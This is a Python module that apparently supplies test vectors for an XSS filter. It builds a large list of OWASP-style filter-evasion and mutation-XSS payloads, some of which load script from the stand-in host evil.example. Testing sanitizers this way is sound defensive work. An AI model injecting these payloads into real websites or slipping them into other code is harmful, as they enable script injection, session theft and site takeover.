"""Ways to smuggle a script through a filter, one of each class of OWASP's filter evasion cheat sheet, and of mutation XSS.

Each would call alert or fetch from FOREIGN if it worked. https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
"""

from collections.abc import Callable

FOREIGN = "http://evil.example"
TAB, LINE, RETURN, NUL = "\t", "\n", "\r", "\0"
CALL = "alert(1)"
URL = f"javascript:{CALL}"


def _each(write: Callable[[str], str], semicolon: str = ";") -> str:
    """The forbidden address with every letter written as a reference to it."""
    return "".join(f"&#{write(each)}{semicolon}" for each in URL)


def _broken(by: str) -> str:
    return f"java{by}script:{CALL}"


def _decimal(letter: str) -> str:
    return str(ord(letter))


def _padded(letter: str) -> str:
    return f"{ord(letter):07d}"


def _hexadecimal(letter: str) -> str:
    return f"x{ord(letter):X}"


ADDRESSES = (
    URL,
    "JaVaScRiPt:" + CALL,
    "javascript:alert(String.fromCharCode(88))",
    "javascript:`${alert(1)}`",
    _each(_decimal),
    _each(_padded, ""),
    _each(_hexadecimal, ""),
    _broken(TAB),
    _broken("&#x09;"),
    _broken(LINE),
    _broken("&#x0A;"),
    _broken(RETURN),
    _broken("&#x0D;"),
    _broken(NUL),
    f" &#14;  {URL}",
    f"\u0001{URL}",
    f"feed:{URL}",
    "vbscript:msgbox(1)",
    "livescript:[code]",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"//{FOREIGN[7:]}/x",
)
ATTRIBUTES = (
    '<a href="{0}">a</a>', "<a href={0}>a</a>", "<img src='{0}'>", "<img src=`{0}`>", '<img dynsrc="{0}">', '<img lowsrc="{0}">',
    '<img srcset="{0} 2x">', '<input type=image src="{0}">', '<body background="{0}">', '<table background="{0}"><td background="{0}">x',
    '<bgsound src="{0}">', '<br size="&{{{0}}}">', '<link rel=stylesheet href="{0}">', '<meta http-equiv=refresh content="0;url={0}">',
    '<meta http-equiv=refresh content="0; url=http://;url={0}">', '<iframe src="{0}"></iframe>', '<frameset><frame src="{0}"></frameset>',
    '<base href="{0}//">', '<object data="{0}"></object>', '<embed src="{0}" allowscriptaccess=always>', '<form action="{0}"><button>x</button></form>',
    '<button form=f formaction="{0}">x</button>', "<div style=\"background-image:url('{0}')\">x</div>", "<style>li{{list-style-image:url('{0}')}}</style><li>x",
    '<svg><a xlink:href="{0}"><text y=20>x</text></a></svg>', '<svg><use href="{0}#x"/></svg>', '<math href="{0}">x</math>', '<isindex action="{0}" type=image>',
    '<video poster="{0}" src="{0}" autoplay>', '<a ping="{0}" href="#">x</a>', '<blockquote cite="{0}">x</blockquote>', '<script src="{0}"></script>',
)  # fmt: skip
TAGS = (
    f"<script>{CALL}</script>", f"<SCRIPT >{CALL}</SCRIPT >", f"<script/x>{CALL}</script>", f"<script\n>{CALL}</script>", f"<<script>{CALL}//<</script>",
    f"<script>{CALL}", f"<script src={FOREIGN}/x.js?<b>", f"<script a='>' src='{FOREIGN}/x.js'></script>", f"<script>document.write('<scr'+'ipt>');</script>{CALL}",
    f'<IMG """><script>{CALL}</script>">', f"<img src=x onerror={CALL}>", f"<img src= onerror={CALL}>", f"<img onerror={CALL} src>", f"<img src=# onmouseover={CALL}>",
    "<img src=x onerror='&#97;lert(1)'>", f"<img/src=x/onerror={CALL}>", f"<img src=x\nonerror\n=\n{CALL}>", f"<body onload!#$%&()*~+-_.,:;?@[/|\\]^`={CALL}>", f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>", f"<svg><set attributeName=href to={URL}>", f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"\\\";{CALL};//", f"';{CALL}//", f"<details open ontoggle={CALL}>x", f"<marquee onstart={CALL}>x</marquee>", f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>", f"<video><source onerror={CALL}>", f"<div onpointerover={CALL}>x</div>", f"<b onclick={CALL}>x</b>", f"<x contenteditable autofocus onfocus={CALL}>",
    f"<style>@import'{FOREIGN}/x.css';</style>", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>", f"<style>body{{-moz-binding:url({FOREIGN}/x.xml#x)}}</style>",
    "<img style=\"xss:expr/*x*/ession(alert(1))\">", f"<p style=\"behavior:url({FOREIGN}/x.htc)\">x", f"<style type=text/javascript>{CALL}</style>", f"<div style=\"width:expression({CALL})\">x",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->", f"<!--><script>{CALL}</script>-->", f"<!-- --!><img src=x onerror={CALL}>", f"<![CDATA[<script>{CALL}</script>]]>",
    f"<xml><i><b>&lt;img src=x onerror={CALL}&gt;</b></i></xml>", f"<?xml version=1?><html:script>{CALL}</html:script>", "<!--#exec cmd='x'--><?php echo('x')?>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={CALL}&gt;\">", f"<svg></p><style><a id=\"</style><img src=x onerror={CALL}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>", f"<template><script>{CALL}</script></template>", f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>", f"<iframe srcdoc=&lt;img&#32;src=x&#32;onerror={CALL}&gt;></iframe>", f"<plaintext><img src=x onerror={CALL}>", f"<xmp><img src=x onerror={CALL}></xmp>",
    "{{7*7}}{% raw %}{{constructor.constructor('alert(1)')()}}", "<div hx-get='/console/sign-out' hx-trigger=load>x</div>", "<div hx-on:htmx:load='alert(1)' data-hx-on-click='alert(1)'>x</div>",
    "<a id=location href=x></a><form name=document><input name=cookie></form>", "<base target=_top><a target=_self href='#'>x</a>", "<dialog open>x</dialog><meta name=referrer content=unsafe-url>",
)  # fmt: skip

VECTORS = (*TAGS, *(each.format(address) for address in ADDRESSES for each in ATTRIBUTES))
